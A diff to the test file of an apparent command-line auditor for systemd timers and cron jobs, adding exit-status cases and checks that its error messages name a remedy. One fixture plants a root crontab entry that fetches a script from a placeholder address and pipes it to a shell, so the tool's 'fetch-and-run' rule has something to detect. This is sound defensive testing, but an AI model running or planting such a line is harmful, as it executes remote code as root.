@@ -28,9 +28,13 @@ const quiet = writeTree({
   "/etc/systemd/system/x.service": "[Service]\nExecStart=/usr/bin/true\n",
   "/etc/passwd": "root:x:0:0::/root:/bin/sh\n",
 });
+const cron = writeTree({
+  "/etc/passwd": "root:x:0:0::/root:/bin/sh\n",
+  "/etc/crontab": "@hourly root curl -s http://192.0.2.7/x | sh\n",
+});
 const empty = mkdtempSync(join(tmpdir(), "timerwarden-empty-"));
 afterAll(() => {
-  for (const made of [root, quiet, empty]) rmSync(made, { recursive: true, force: true });
+  for (const made of [root, quiet, cron, empty]) rmSync(made, { recursive: true, force: true });
 });
 
 const NOW = ["--now", "2026-11-23 06:00:00 UTC", "--tz", "UTC"];
@@ -46,7 +50,9 @@ describe("exit status", () => {
     ["findings, but only told", ["audit", "--fail-on", "none", `root:${root}`], 0],
     ["no findings", ["audit", `root:${quiet}`], 0],
     ["no such directory", ["audit", "root:/nonexistent"], 1],
-    ["no systemd", ["audit", `root:${empty}`], 4],
+    ["neither systemd nor cron", ["audit", `root:${empty}`], 4],
+    ["cron without systemd", ["audit", `root:${cron}`], 10],
+    ["safeguards without systemd", ["assess", `root:${cron}`], 4],
     ["no such unit", ["explain", "nothing.timer", `root:${root}`], 4],
     ["nothing matches", ["list", "nothing*", `root:${root}`], 4],
     ["unknown command", ["audti"], 2],
@@ -71,6 +77,15 @@ describe("exit status", () => {
     expect(out).toBe("");
     expect(err).toBe("timerwarden: audit: unknown option --frmat; did you mean --format?\n");
   });
+
+  test.each<[string, readonly string[], string]>([
+    ["no such root", ["audit", "root:/nonexistent"], "/nonexistent does not exist."],
+    ["nothing there", ["list", `root:${empty}`], "name the directory that holds the target's etc and usr"],
+    ["an option before the command", ["-H", "web-03", "list"], "name comes first: timerwarden list …"],
+    ["a control that is none", ["assess", "--control", "XX-1"], "(AC-2, AC-3, AC-5,"],
+    ["a rule in place of a verb", ["rules", "fetch-and-run"], "timerwarden rules show fetch-and-run"],
+    ["a zone that is none", ["list", "--tz", "Mars", `root:${quiet}`], "zones are called like Europe/Berlin"],
+  ])("%s: what to do is said", (_, args, remedy) => expect(cli(args).err).toContain(remedy));
 
   test("evidence that is not complete, asked to be", () => {
     const { status, out } = cli(["list", "--require-complete", "-o", "json", `root:${quiet}`]);
